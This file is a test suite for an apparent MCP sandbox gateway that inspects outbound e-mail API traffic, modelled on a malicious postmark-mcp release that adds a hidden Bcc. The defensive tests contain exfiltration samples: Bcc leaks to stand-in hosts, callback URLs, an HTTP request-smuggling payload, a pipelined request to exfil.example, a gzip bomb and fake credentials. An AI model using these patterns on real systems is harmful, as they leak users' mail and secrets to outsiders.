"""Outbound inspection: the judgement alone, the call tracker, the authority, the proxy's
interception against a local HTTPS server, and end to end the ``postmark-mcp`` shape - a
sandboxed e-mail server whose malicious release adds a hidden Bcc."""

from __future__ import annotations

import gzip
import http.client
import json
import os
import socket
import ssl
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import orjson
import pytest

from mcpward.dlp.policy import DlpPolicy
from mcpward.gateway import verify
from mcpward.sandbox._authority import CertificateAuthority
from mcpward.sandbox._calls import CallTracker, InFlightCall
from mcpward.sandbox._interception import Interception
from mcpward.sandbox._outbound import OutboundInspector, OutboundRequest, Uninspectable
from mcpward.sandbox._proxy import EgressProxy
from mcpward.sandbox.interface import InspectionRules, NetworkRules, SandboxError

SERVERS = Path(__file__).parent / "servers"
CALL = InFlightCall(7, "send_email", {"to": "Alice <alice@example.org>", "subject": "Hi", "body": "Lunch?"})


def judge(
    body: Any,
    *,
    calls: tuple[InFlightCall, ...] = (CALL,),
    content_type: str = "application/json",
    rules: InspectionRules | None = None,
    target: str = "/email",
    encoding: str = "",
    **options: Any,
) -> Any:
    inspector = OutboundInspector("mail", rules or InspectionRules(tls=True), **options)
    data = (
        body
        if isinstance(body, bytes)
        else (orjson.dumps(body) if not isinstance(body, str) else body.encode())
    )
    headers = [("Content-Type", content_type)] + ([("Content-Encoding", encoding)] if encoding else [])
    return inspector.judge(
        OutboundRequest("POST", "api.mail.test", 443, target, tuple(headers), data), list(calls)
    )


# -- the judgement alone -------------------------------------------------------------------------


def test_a_bcc_the_call_did_not_ask_for_is_a_critical_blocking_event() -> None:
    judgement = judge({"To": "alice@example.org", "Bcc": "phan@giftshop.example", "TextBody": "Lunch?"})
    assert judgement.action == "block"
    (event,) = judgement.events
    assert event["kind"] == "undeclared-recipient" and event["severity"] == "critical"
    assert event["value"] == "phan@giftshop.example" and "phan@giftshop.example" in event["message"]
    assert event["path"] == "$.body.Bcc"


def test_the_recipients_the_call_named_pass_in_every_shape() -> None:
    call = InFlightCall(1, "send", {"to": "alice@example.org", "cc": "Bob <BOB@example.net>"})
    shapes = [
        {"To": "Alice <alice@example.org>", "Cc": "bob@example.net"},  # Postmark
        {
            "personalizations": [
                {"to": [{"email": "alice@example.org"}], "cc": [{"email": "bob@example.net"}]}
            ]
        },
        {"message": {"toRecipients": [{"emailAddress": {"address": "alice@example.org"}}]}},  # Graph
    ]
    for shape in shapes:
        assert judge(shape, calls=(call,)).action == "allow", shape
    form = "to=alice%40example.org&cc=bob%40example.net&text=hello"  # Mailgun
    assert judge(form, calls=(call,), content_type="application/x-www-form-urlencoded").action == "allow"
    mime = "From: x@example.org\r\nTo: alice@example.org\r\nSubject: hi\r\n\r\nhello"
    assert (
        judge(
            {"raw": mime}, calls=(call,), rules=InspectionRules(tls=True, declared=("x@example.org",))
        ).action
        == "allow"
    )


def test_hidden_recipients_are_found_in_every_shape() -> None:
    cases = [
        ({"personalizations": [{"to": [{"email": "alice@example.org"}], "bcc": [{"email": "x@evil.example"}]}]},
         "application/json"),
        ("to=alice%40example.org&bcc=x%40evil.example", "application/x-www-form-urlencoded"),
        ("To: alice@example.org\r\nBcc:\r\n x@evil.example\r\n\r\nbody", "message/rfc822"),
        ({"message": {"bccRecipients": [{"emailAddress": {"address": "x@evil.example"}}]}}, "application/json"),
    ]  # fmt: skip
    for body, kind in cases:
        judgement = judge(body, content_type=kind)
        assert [e["value"] for e in judgement.events if e["kind"] == "undeclared-recipient"] == [
            "x@evil.example"
        ], body
        assert judgement.action == "block"


def test_an_sms_to_a_number_the_call_did_not_name_is_found() -> None:
    call = InFlightCall(2, "send_sms", {"to": "+1 415 555 0100", "body": "On my way"})
    assert judge({"To": "+14155550100", "Body": "On my way"}, calls=(call,)).action == "allow"
    judgement = judge({"To": "+14155550100", "Cc": "+44 20 7946 0000", "Body": "x"}, calls=(call,))
    assert [e["kind"] for e in judgement.events] == ["undeclared-recipient"]


def test_declared_senders_and_domains_and_the_baseline_are_known() -> None:
    body = {
        "From": "noreply@acme.test",
        "To": "alice@example.org",
        "TextBody": "see https://docs.acme.test/x",
    }
    assert judge(body).action == "alert"  # an address and a URL nobody named: recorded, not blocked
    assert {e["value"] for e in judge(body).events} == {"noreply@acme.test", "docs.acme.test"}
    declared = InspectionRules(tls=True, declared=("acme.test",))
    assert judge(body, rules=declared).action == "allow"
    assert judge(body, learned=("acme.test",)).action == "allow"
    # A declared domain does not excuse a recipient at another one, nor the baseline a recipient.
    hidden = {**body, "Bcc": "phan@giftshop.example"}
    assert judge(hidden, rules=declared, learned=("giftshop.example",)).action == "block"


def test_a_url_to_another_host_is_an_undeclared_destination_but_schemas_are_not() -> None:
    body = {"callback": "https://collect.evil.example/c?d=1", "xmlns": "http://www.w3.org/1999/xhtml"}
    judgement = judge(body)
    assert [e["value"] for e in judgement.events] == ["collect.evil.example"]
    assert judgement.action == "alert"
    strict = InspectionRules(tls=True, undeclared="block")
    assert judge(body, rules=strict).action == "block"
    # Links to the API's own site are not destinations of their own (api.mail.test -> mail.test).
    assert judge({"text": "see https://mail.test/docs and https://cdn.mail.test/x.png"}).events == []
    assert judge({"text": "https://mail.test.evil.example/x"}).action == "alert"
    named = InFlightCall(3, "send", {"to": "alice@example.org", "body": "https://collect.evil.example/c"})
    assert judge(body, calls=(named,)).action == "allow"


def test_secrets_in_the_body_that_the_call_did_not_carry_are_dlp_events() -> None:
    key = "AKIA" + "Z7PQ3MX2LWTKR4NB"
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq9r4Tv2Lm"
    body = {"To": "alice@example.org", "TextBody": f"aws_access_key_id={key}\naws_secret_access_key={secret}"}
    judgement = judge(body)
    assert [e["kind"] for e in judgement.events] == ["dlp-outbound"]
    assert "aws" in judgement.events[0]["message"]
    # What the call itself carried was judged on the way in; the server's own key is its job.
    carried = InFlightCall(4, "send_email", {"to": "alice@example.org", "body": body["TextBody"]})
    assert judge(body, calls=(carried,)).events == []
    token = "ghp_" + "R8pX2mWq7LkT4nVz9bYc3HdF6jAs1GeU0oNi"
    assert judge({"To": "alice@example.org", "token": token}, known_secrets=[token]).events == []


def test_a_policy_can_redact_outbound_bodies() -> None:
    key = "AKIA" + "Z7PQ3MX2LWTKR4NB"
    policy = DlpPolicy.model_validate({"actions": {"secret": "redact"}})
    judgement = judge({"To": "alice@example.org", "TextBody": f"key {key}"}, policy=policy)
    assert judgement.action == "redact"
    sent = orjson.loads(judgement.body)
    assert key not in sent["TextBody"] and sent["To"] == "alice@example.org"


def test_compressed_bodies_are_read_and_unknown_encodings_are_uninspectable() -> None:
    body = orjson.dumps({"To": "alice@example.org", "Bcc": "x@evil.example"})
    assert judge(gzip.compress(body), encoding="gzip").action == "block"
    with pytest.raises(Uninspectable, match="br"):
        judge(body, encoding="br")
    with pytest.raises(Uninspectable, match="binary"):
        judge(b"\x89PNG\r\n\x1a\n\x00\xff\xfe", content_type="image/png")
    bomb = gzip.compress(b"a" * (3 * 1024 * 1024))
    with pytest.raises(Uninspectable, match="inflates beyond"):
        judge(bomb, encoding="gzip", rules=InspectionRules(tls=True, max_body_mb=1))


def test_with_no_call_in_flight_every_address_is_undeclared() -> None:
    judgement = judge({"To": "alice@example.org"}, calls=())
    assert judgement.action == "block" and judgement.events[0]["kind"] == "undeclared-recipient"


def test_with_two_calls_in_flight_either_ones_recipients_pass() -> None:
    other = InFlightCall(8, "send_email", {"to": "carol@example.com"})
    assert judge({"To": "carol@example.com"}, calls=(CALL, other)).action == "allow"


# -- the call tracker ------------------------------------------------------------------------------


def test_the_tracker_links_calls_and_fails_a_blocked_one_with_a_clear_error() -> None:
    tracker = CallTracker()
    tracker.from_client(
        b'{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"send","arguments":{"to":"a@b.c"}}}\n'
    )
    tracker.from_client(b'{"jsonrpc":"2.0","id":"5","method":"tools/list"}\n')
    (call,) = tracker.in_flight()
    assert call.id == 5 and call.tool == "send" and call.arguments == {"to": "a@b.c"}
    tracker.fail([call], "undeclared recipient x@evil.example")
    answer = orjson.loads(tracker.from_server(b'{"jsonrpc":"2.0","id":5,"result":{"content":[]}}\n'))
    assert answer["error"]["code"] == -32001 and "x@evil.example" in answer["error"]["message"]
    assert tracker.in_flight() == []
    untouched = b'{"jsonrpc":"2.0","id":"5","result":{}}\n'
    assert tracker.from_server(untouched) == untouched  # "5" is not 5
    tracker.from_client(b'{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{"name":"x"}}\n')
    tracker.from_client(b'{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":6}}\n')
    assert tracker.in_flight() == []


# -- the authority ---------------------------------------------------------------------------------


def test_the_authority_is_private_and_its_certificates_verify(tmp_path: Path) -> None:
    folder = tmp_path / "ca"
    authority = CertificateAuthority(folder)
    assert (folder.stat().st_mode & 0o777) == 0o700 and ((folder / "ca.key").stat().st_mode & 0o777) == 0o600
    assert CertificateAuthority(folder).pem == authority.pem  # made once, then reused
    client = ssl.create_default_context(cadata=authority.pem.decode())
    with https_server(authority, "api.mail.test") as (port, _):
        with (
            socket.create_connection(("127.0.0.1", port)) as raw,
            client.wrap_socket(raw, server_hostname="api.mail.test"),
        ):
            pass
        with (
            pytest.raises(ssl.SSLCertVerificationError),
            socket.create_connection(("127.0.0.1", port)) as raw,
            client.wrap_socket(raw, server_hostname="other.test"),
        ):
            pass
    (folder / "ca.key").chmod(0o644)
    with pytest.raises(SandboxError, match="readable by others"):
        CertificateAuthority(folder)


# -- the proxy's interception, against a local HTTPS server -------------------------------------


class _Api(BaseHTTPRequestHandler):
    received: list[dict[str, Any]]

    def do_POST(self) -> None:
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            body = b""
            while (size := int(self.rfile.readline().strip() or b"0", 16)) > 0:
                body += self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
        else:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.received.append(
            {"path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()}, "body": body}
        )
        answer = b'{"MessageID":"m-1"}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, *args: Any) -> None:
        pass


class https_server:
    """A local HTTPS server standing in for an e-mail API; what it received, in order."""

    def __init__(self, authority: CertificateAuthority, host: str, tls: bool = True) -> None:
        self.received: list[dict[str, Any]] = []
        handler = type("Api", (_Api,), {"received": self.received})
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        if tls:
            context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
            context.load_cert_chain(authority.write_leaf(host, authority.folder / f"{host}.pem"))
            self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        self.thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    def __enter__(self) -> tuple[int, list[dict[str, Any]]]:
        self.thread.start()
        return self.server.server_address[1], self.received

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def intercepting(tmp_path: Path) -> Iterator[dict[str, Any]]:
    """The egress proxy on loopback with inspection on, in front of a local HTTPS e-mail API that
    a separate "public" authority vouches for; the proxy's own authority signs what the
    sandboxed client sees."""
    public = CertificateAuthority(tmp_path / "public-ca")
    inspection_ca = CertificateAuthority(tmp_path / "inspection-ca")
    records: list[dict[str, Any]] = []
    tracker = CallTracker()
    with (
        https_server(public, "api.mail.test") as (port, received),
        https_server(public, "plain.test", tls=False) as (plain_port, plain_received),
    ):
        upstream = ssl.create_default_context(cadata=public.pem.decode())
        upstream.set_alpn_protocols(["http/1.1"])
        rules = InspectionRules(tls=True, declared=("noreply@acme.test",), max_body_mb=1)
        interception = Interception(
            inspection_ca, OutboundInspector("mail", rules), tracker, upstream, records.append
        )
        proxy = EgressProxy(
            tmp_path / "unused.sock",
            NetworkRules(allow=("api.mail.test", "plain.test")),
            records.append,
            resolve={"api.mail.test:443": ("127.0.0.1", port), "plain.test:80": ("127.0.0.1", plain_port)},
            tcp=True,
            inspection=interception,
        )
        proxy.start()
        try:
            yield {"proxy": proxy.port, "received": received, "plain": plain_received, "records": records,
                   "tracker": tracker, "client": ssl.create_default_context(cadata=inspection_ca.pem.decode()),
                   "interception": interception}  # fmt: skip
        finally:
            proxy.stop()


def _through(
    setup: dict[str, Any], body: bytes, headers: dict[str, str], *, chunked: bool = False
) -> tuple[int, bytes]:
    connection = http.client.HTTPSConnection("127.0.0.1", setup["proxy"], context=setup["client"], timeout=20)
    connection.set_tunnel("api.mail.test", 443)
    try:
        connection.request("POST", "/email", body=iter([body]) if chunked else body, headers=headers,
                           encode_chunked=chunked)  # fmt: skip
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def _wait_for(records: list[dict[str, Any]], wanted: Any) -> None:
    """Records of tunnels come when both ends have closed: a moment after the client's."""
    deadline = time.monotonic() + 10
    while not any(wanted(record) for record in records):
        assert time.monotonic() < deadline, records
        time.sleep(0.05)


def _call(tracker: CallTracker, arguments: dict[str, Any]) -> None:
    message = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": "send_email", "arguments": arguments},
    }
    tracker.from_client(orjson.dumps(message))


def test_the_proxy_passes_a_clean_request_and_records_it_with_its_call(intercepting: dict[str, Any]) -> None:
    _call(intercepting["tracker"], {"to": "alice@example.org"})
    message = orjson.dumps({"From": "noreply@acme.test", "To": "alice@example.org", "TextBody": "hi"})
    status, answer = _through(intercepting, message, {"Content-Type": "application/json"})
    assert status == 200 and b"m-1" in answer
    assert intercepting["received"][0]["body"] == message
    _wait_for(intercepting["records"], lambda r: r.get("inspected"))  # written after the answer
    (record,) = [r for r in intercepting["records"] if r.get("inspected")]
    assert record["decision"] == "allow" and record["calls"] == [{"id": 1, "tool": "send_email"}]
    assert record["path"] == "/email" and record["status"] == 200 and record["sent"] > len(message)


def test_the_proxy_refuses_a_hidden_bcc_and_the_api_never_sees_it(intercepting: dict[str, Any]) -> None:
    tracker = intercepting["tracker"]
    _call(tracker, {"to": "alice@example.org"})
    message = orjson.dumps(
        {"From": "noreply@acme.test", "To": "alice@example.org", "Bcc": "phan@giftshop.example"}
    )
    status, answer = _through(intercepting, message, {"Content-Type": "application/json"})
    assert status == 403 and b"phan@giftshop.example" in answer
    assert intercepting["received"] == []
    (record,) = [r for r in intercepting["records"] if r.get("inspected")]
    assert record["decision"] == "block" and record["severity"] == "critical"
    assert record["events"][0]["value"] == "phan@giftshop.example"
    reply = orjson.loads(tracker.from_server(b'{"jsonrpc":"2.0","id":1,"result":{"content":[]}}'))
    assert "phan@giftshop.example" in reply["error"]["message"]


def test_a_redacting_policy_masks_the_body_and_the_query_before_they_leave(
    intercepting: dict[str, Any],
) -> None:
    key = "AKIA" + "Z7PQ3MX2LWTKR4NB"
    policy = DlpPolicy.model_validate({"actions": {"secret": "redact"}})
    rules = InspectionRules(tls=True, declared=("noreply@acme.test",))
    intercepting["interception"].inspector = OutboundInspector("mail", rules, policy=policy)
    _call(intercepting["tracker"], {"to": "alice@example.org"})
    connection = http.client.HTTPSConnection(
        "127.0.0.1", intercepting["proxy"], context=intercepting["client"], timeout=20
    )
    connection.set_tunnel("api.mail.test", 443)
    body = orjson.dumps({"To": "alice@example.org", "TextBody": f"key {key}"})
    connection.request("POST", f"/email?debug={key}", body=body, headers={"Content-Type": "application/json"})
    assert connection.getresponse().status == 200
    connection.close()
    (received,) = intercepting["received"]
    assert key not in received["path"] and received["path"].startswith("/email?debug=")
    assert (
        key not in received["body"].decode() and orjson.loads(received["body"])["To"] == "alice@example.org"
    )


def test_chunked_and_gzip_bodies_are_inspected(intercepting: dict[str, Any]) -> None:
    _call(intercepting["tracker"], {"to": "alice@example.org"})
    hidden = orjson.dumps({"To": "alice@example.org", "Bcc": "phan@giftshop.example"})
    status, _ = _through(intercepting, hidden, {"Content-Type": "application/json"}, chunked=True)
    assert status == 403
    status, _ = _through(intercepting, gzip.compress(hidden),
                         {"Content-Type": "application/json", "Content-Encoding": "gzip"})  # fmt: skip
    assert status == 403 and intercepting["received"] == []
    clean = orjson.dumps({"To": "alice@example.org"})
    status, _ = _through(intercepting, clean, {"Content-Type": "application/json"}, chunked=True)
    assert status == 200 and intercepting["received"][0]["body"] == clean


def test_a_large_upload_passes_uninspected_with_a_record(intercepting: dict[str, Any]) -> None:
    upload = os.urandom(3 * 1024 * 1024)  # over the 1 MB limit of the fixture's profile
    status, _ = _through(intercepting, upload, {"Content-Type": "application/octet-stream"})
    assert status == 200 and intercepting["received"][0]["body"] == upload
    # A streamed request's record is written once its response has been relayed: a moment
    # after the client has it.
    _wait_for(intercepting["records"], lambda r: "events" in r)
    (record,) = [r for r in intercepting["records"] if "events" in r]
    assert record["inspected"] is False and "over 1 MB" in record["events"][0]["message"]
    strict = InspectionRules(tls=True, max_body_mb=1, uninspectable="block")
    intercepting["interception"].inspector = OutboundInspector("mail", strict)
    status, _ = _through(intercepting, upload, {"Content-Type": "application/octet-stream"})
    assert status == 403 and len(intercepting["received"]) == 1


def test_a_client_that_pins_its_certificate_is_recorded_then_tunnelled(intercepting: dict[str, Any]) -> None:
    pinning = ssl.create_default_context()  # trusts only the system's authorities, not ours
    for _attempt in range(2):
        connection = http.client.HTTPSConnection(
            "127.0.0.1", intercepting["proxy"], context=pinning, timeout=20
        )
        connection.set_tunnel("api.mail.test", 443)
        with pytest.raises(ssl.SSLCertVerificationError):
            connection.request(
                "GET", "/"
            )  # first: our certificate; then: the real one (not trusted here either)
        connection.close()
    _wait_for(intercepting["records"], lambda r: r.get("reason") == "its client refused the certificate")
    first, second = [r for r in intercepting["records"] if r.get("inspected") is False][:2]
    assert "refused the inspection certificate" in first["reason"]
    assert second["reason"] == "its client refused the certificate"


def test_http2_is_reported_and_passed_uninspected(intercepting: dict[str, Any]) -> None:
    with socket.create_connection(("127.0.0.1", intercepting["proxy"]), timeout=20) as raw:
        raw.sendall(b"CONNECT api.mail.test:443 HTTP/1.1\r\nHost: api.mail.test:443\r\n\r\n")
        assert raw.recv(100).startswith(b"HTTP/1.1 200")
        with intercepting["client"].wrap_socket(raw, server_hostname="api.mail.test") as tls:
            tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            tls.recv(100)  # the HTTP/1.1 upstream answers or hangs up: either way not inspected
    _wait_for(intercepting["records"], lambda r: "not HTTP/1.x" in str(r.get("reason")))


def test_plain_http_is_inspected_too(intercepting: dict[str, Any]) -> None:
    _call(intercepting["tracker"], {"to": "alice@example.org"})
    connection = http.client.HTTPConnection("127.0.0.1", intercepting["proxy"], timeout=20)
    body = orjson.dumps({"To": "alice@example.org", "Bcc": "phan@giftshop.example"})
    connection.request(
        "POST", "http://plain.test/email", body=body, headers={"Content-Type": "application/json"}
    )
    assert connection.getresponse().status == 403 and intercepting["plain"] == []
    connection.close()


def test_a_body_whose_length_is_stated_two_ways_is_refused_not_inspected_one_way(
    intercepting: dict[str, Any],
) -> None:
    _call(intercepting["tracker"], {"to": "alice@example.org"})
    body = orjson.dumps({"To": "alice@example.org"})
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    with socket.create_connection(("127.0.0.1", intercepting["proxy"]), timeout=20) as raw:
        raw.sendall(b"CONNECT api.mail.test:443 HTTP/1.1\r\nHost: api.mail.test:443\r\n\r\n")
        assert raw.recv(100).startswith(b"HTTP/1.1 200")
        with intercepting["client"].wrap_socket(raw, server_hostname="api.mail.test") as tls:
            tls.sendall(b"POST /email HTTP/1.1\r\nHost: api.mail.test\r\nContent-Type: application/json\r\n"
                        b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked)  # fmt: skip
            assert tls.recv(100).startswith(b"HTTP/1.1 400")
    assert intercepting["received"] == []
    _wait_for(intercepting["records"], lambda r: "smuggling" in str(r.get("reason")))


def test_a_plain_http_request_pipelined_behind_an_inspected_one_is_checked_too(
    intercepting: dict[str, Any],
) -> None:
    _call(intercepting["tracker"], {"to": "alice@example.org"})
    body = orjson.dumps({"To": "alice@example.org"})
    payload = (
        b"POST http://plain.test/email HTTP/1.1\r\nHost: plain.test\r\nContent-Type: application/json\r\n"
        + b"Content-Length: %d\r\n\r\n" % len(body)
        + body
        + b"POST http://exfil.example/email HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 2\r\n\r\n{}"
    )
    with socket.create_connection(("127.0.0.1", intercepting["proxy"]), timeout=20) as raw:
        raw.sendall(payload)  # both requests in one packet
        answers = b""
        for _ in range(100):  # bounded
            if answers.count(b"HTTP/1.1 ") >= 2 or not (chunk := raw.recv(4096)):
                break
            answers += chunk
    assert answers.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 403" in answers
    assert [r["path"] for r in intercepting["plain"]] == ["/email"]
    _wait_for(intercepting["records"], lambda r: r.get("host") == "exfil.example")
    assert [r["decision"] for r in intercepting["records"] if r.get("host") == "exfil.example"] == ["block"]


# -- end to end: the postmark-mcp shape, sandboxed, through the gateway -------------------------


async def _send(command: list[str], env: dict[str, str]) -> Any:
    from mcp import ClientSession, StdioServerParameters
    from mcp.client.stdio import stdio_client
    from mcp.shared.exceptions import MCPError

    params = StdioServerParameters(command=command[0], args=command[1:], env=env)
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        await session.list_tools()  # the gateway pins what it lists before a call may pass
        try:
            result = await session.call_tool(
                "send_email", {"to": "alice@example.org", "subject": "Invoice", "body": "Attached."}
            )
        except MCPError as exc:
            return exc.error.message
        return result


@pytest.mark.parametrize("action", ["block", "alert"])
def test_a_hidden_bcc_in_a_sandboxed_servers_request_is_caught(tmp_path: Path, action: str) -> None:
    import anyio

    from mcpward.sandbox._backends.bubblewrap import Bubblewrap

    availability = Bubblewrap().check()
    if not availability.works:
        from needs import missing

        missing("bubblewrap", availability.why)
    public = CertificateAuthority(tmp_path / "public-ca")
    with https_server(public, "api.mail.test") as (port, received):
        profile = tmp_path / "mail.toml"
        profile.write_text(
            f"""[network]
allow = ["api.mail.test"]
resolve = {{ "api.mail.test:443" = "127.0.0.1:{port}" }}
[env]
set = {{ MAIL_FROM = "noreply@acme.test" }}
secrets = {{ MAIL_TOKEN = "env:TEST_MAIL_TOKEN" }}
[inspect]
tls = true
declared = ["noreply@acme.test"]
upstream_ca = "{public.folder / "ca.pem"}"
recipients = "{action}"
""",
            encoding="utf-8",
        )
        config = tmp_path / "gateway.toml"
        config.write_text(f'[pins]\nstore = "{tmp_path / "pins.json"}"\n', encoding="utf-8")
        log = tmp_path / "audit.jsonl"
        env = {
            **os.environ,
            "MCPWARD_DATA_DIR": str(tmp_path / "data"),
            "TEST_MAIL_TOKEN": "pm-" + "7f3a9c2e5b8d4f10",
        }

        def gateway(*release: str) -> list[str]:
            return [sys.executable, "-m", "mcpward", "gateway", "run", "--server", "mail", "--config", str(config),
                    "--audit-log", str(log), "--sandbox", str(profile), "--",
                    sys.executable, str(SERVERS / "email_server.py"), *release]  # fmt: skip

        clean = anyio.run(_send, gateway(), env)
        assert not isinstance(clean, str) and not clean.is_error, clean
        assert "sent: 200" in clean.content[0].text
        (message,) = received
        sent = orjson.loads(message["body"])
        assert sent["To"] == "alice@example.org" and "Bcc" not in sent
        assert message["headers"]["x-server-token"] == env["TEST_MAIL_TOKEN"]  # the secret, injected

        malicious = anyio.run(_send, gateway("--release", "1.0.16"), env)
        records = [json.loads(line) for line in log.read_text().splitlines()]
        assert verify(log)[1] is None
        inspected = [r for r in records if r.get("inspected")]
        assert [r["decision"] for r in inspected] == ["allow", action]
        caught = inspected[1]
        assert caught["severity"] == "critical" and caught["calls"][0]["tool"] == "send_email"
        assert caught["events"][0]["value"] == "phan@giftshop.example" and caught["server"] == "mail"
        assert env["TEST_MAIL_TOKEN"] not in log.read_text()
        if action == "block":
            assert isinstance(malicious, str) and "phan@giftshop.example" in malicious
            assert len(received) == 1  # the API never saw the second message
        else:
            assert "sent: 200" in malicious.content[0].text
            assert orjson.loads(received[1]["body"])["Bcc"] == "phan@giftshop.example"
